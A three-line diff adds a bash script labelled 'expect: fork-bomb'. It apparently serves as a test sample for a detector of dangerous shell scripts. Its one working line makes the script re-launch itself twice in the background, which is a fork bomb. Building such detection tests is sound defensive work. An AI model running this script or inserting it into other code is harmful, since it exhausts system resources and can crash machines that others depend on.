@@ -1,0 +1,3 @@
+# expect: fork-bomb
+#!/bin/bash
+$0 & $0 &
